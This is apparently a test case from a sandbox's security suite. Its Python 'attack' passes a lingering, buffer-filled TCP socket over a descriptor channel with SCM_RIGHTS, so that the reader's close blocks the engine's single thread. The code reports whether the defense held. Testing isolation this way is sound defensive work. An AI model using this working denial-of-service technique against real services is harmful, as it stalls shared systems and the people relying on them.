# attack: a socket that takes long to close, sent to whoever reads our answers
# family: 6
# runs: call
# stopped-by: design
#
# A descriptor that comes with bytes is closed by who reads them, if nobody asked for it. Where it is the last of a TCP
# connection that lingers and whose other end reads nothing, that close waits: for the engine's one thread, and so for the
# wall clocks and the calls of everybody else. Here it would be some seconds; nothing keeps it from being weeks.
import array
import os
import socket
import struct

_SECONDS = 3


def _full_connection():
    listener = socket.create_server(("127.0.0.1", 0))
    client = socket.create_connection(listener.getsockname())
    server, _ = listener.accept()
    client.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, struct.pack("ii", 1, _SECONDS))
    client.setblocking(False)
    try:
        while client.send(b"x" * 65536):
            pass
    except BlockingIOError:
        return client, server


def attack():
    client, server = _full_connection()
    with client, server, socket.socket(fileno=os.dup(3)) as channel:
        on, _ = struct.unpack("ii", client.getsockopt(socket.SOL_SOCKET, socket.SO_LINGER, 8))
        if not on:
            return "HELD: no socket lingers"
        rights = array.array("i", [client.fileno()])
        try:
            channel.sendmsg([b"\0"], [(socket.SOL_SOCKET, socket.SCM_RIGHTS, rights)])
        except PermissionError:
            return "HELD: the channel takes no descriptors"
    return f"ESCAPED: who reads this waits {_SECONDS} seconds"
